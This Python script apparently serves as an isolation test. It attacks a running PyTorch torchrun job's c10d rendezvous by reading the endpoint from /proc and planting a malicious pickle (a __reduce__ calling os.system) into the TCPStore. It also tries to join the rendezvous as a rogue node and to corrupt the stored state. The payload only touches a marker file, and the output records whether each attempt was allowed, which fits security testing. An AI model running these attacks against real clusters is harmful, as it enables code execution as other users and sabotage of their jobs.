"""What another user (or another machine) tries against a running job's c10d
rendezvous and every port the job listens on: issue 24's attack, as code.

Sent as source text and run with ``TARGET`` set: ``job`` (the job id), ``hosts``
(the addresses to try: the host's loopback and its own addresses, or the host's
side of a veth from another namespace), ``ports`` (the ports the job listens on,
seen by root inside the job), ``marker`` (the file the pickle would create), and
``python``. The rendezvous port is read from ``/proc/*/cmdline``, as an attacker
with an ordinary account would. Prints one line, ``C10D-RESULT <json>``: each
attempt's outcome, "ALLOWED ..." when it reached the job.
"""

import base64
import datetime
import json
import os
import pickle
import socket
import subprocess
from concurrent.futures import ThreadPoolExecutor

from torch.distributed import TCPStore


def rendezvous_endpoint(job):
    """``(host, port)`` from the command line of one of the job's torchrun agents."""
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                args = f.read().decode(errors="replace").split("\0")
        except OSError:
            continue
        if f"--rdzv-id={job}" in args:
            for a in args:
                if a.startswith("--rdzv-endpoint="):
                    host, _, port = a.split("=", 1)[1].rpartition(":")
                    return host, int(port)
    return None


class Payload:
    """Unpickled by the job's agents at their next heartbeat: a file as the job's owner."""

    def __init__(self, marker):
        self.marker = marker

    def __reduce__(self):
        return (os.system, (f"touch {self.marker}",))


def outcome(action):
    try:
        detail = action()
    except OSError as e:  # refused, unreachable, timed out: did not reach the job
        return f"unreachable: {type(e).__name__}: {e}"[:200]
    except Exception as e:  # torch's DistNetworkError / DistStoreError on connect
        return f"failed: {type(e).__name__}: {str(e).splitlines()[0] if str(e) else ''}"[:200]
    return f"ALLOWED {detail}"[:300]


def connect(host, port):
    with socket.create_connection((host, port), timeout=5):
        return "connected"


def store(host, port):
    return TCPStore(
        host, port, is_master=False, timeout=datetime.timedelta(seconds=3), wait_for_workers=False
    )


def run(target):
    job, marker = target["job"], target["marker"]
    key = f"torch.rendezvous.{job}"
    results = {}
    found = rendezvous_endpoint(job)
    results["read the rendezvous endpoint from /proc/*/cmdline"] = (
        f"found {found[0]}:{found[1]}" if found else "missing"
    )
    if found is None:
        print("C10D-RESULT " + json.dumps(results), flush=True)
        return
    rdzv_port = found[1]
    # The c10d backend keeps the state base64-encoded; the agents b64decode, then unpickle.
    payload = base64.b64encode(pickle.dumps(Payload(marker)))
    ports = sorted({rdzv_port, *target["ports"]})
    attempts = {}  # what is tried -> a function that tries it and says how it went
    for host in target["hosts"]:
        for port in ports:
            attempts[f"connect {host}:{port}"] = lambda h=host, p=port: outcome(
                lambda: connect(h, p)
            )
        ep = f"{host}:{rdzv_port}"
        attempts[f"TCPStore read {key} at {ep}"] = lambda h=host: outcome(
            lambda: f"read {len(store(h, rdzv_port).get(key))} bytes"
        )

        def plant(h=host):
            s = store(h, rdzv_port)
            current = s.get(key)
            s.compare_set(key, current, payload)
            return "planted the pickle"

        attempts[f"TCPStore compare_set a pickle at {ep}"] = lambda f=plant: outcome(f)
        attempts[f"join the rendezvous at {ep}"] = lambda h=host: join(
            target["python"], job, h, rdzv_port
        )
        attempts[f"TCPStore set junk at {ep}"] = lambda h=host: outcome(
            lambda: (
                store(h, rdzv_port).set(key, b"\x00junk, not a rendezvous state") or "wrote junk"
            )
        )
    # All at once: a refused or filtered port costs each attempt its own timeout (the
    # store client retries a refusal until its timeout, twice; the agent its read
    # timeout), and none depends on another. One that reaches the job says ALLOWED
    # whatever ran beside it.
    with ThreadPoolExecutor(max_workers=len(attempts)) as pool:
        running = {what: pool.submit(attempt) for what, attempt in attempts.items()}
        results.update({what: done.result() for what, done in running.items()})
    print("C10D-RESULT " + json.dumps(results), flush=True)


JOIN_WAIT_S = 180


def join(python, job, host, port):
    """A torchrun agent of the attacker's, joining the job's rendezvous as a node."""
    argv = [
        python,
        "-m",
        "torch.distributed.run",
        "--nnodes=1:4",
        "--nproc-per-node=1",
        "--rdzv-backend=c10d",
        f"--rdzv-endpoint={host}:{port}",
        f"--rdzv-id={job}",
        "--rdzv-conf=is_host=0,read_timeout=5,join_timeout=20",
        "--max-restarts=0",
        "-m",
        "platform",
    ]
    # Its own timeouts end a refused join in about 30 s; a loaded 2-core host running
    # five of these at once (each importing torch) takes more than 60 s to get there.
    try:
        done = subprocess.run(argv, capture_output=True, text=True, timeout=JOIN_WAIT_S)
    except subprocess.TimeoutExpired:
        return f"ALLOWED joined: the agent was still in the rendezvous after {JOIN_WAIT_S} s"
    text = done.stdout + done.stderr
    if done.returncode == 0:
        return "ALLOWED joined and ran a worker"
    reason = next(
        (ln.strip() for ln in reversed(text.splitlines()) if "rror" in ln),
        text.strip().splitlines()[-1] if text.strip() else "",
    )
    return f"failed: exit {done.returncode}: {reason}"[:200]


run(TARGET)  # noqa: F821 (set by the sender)
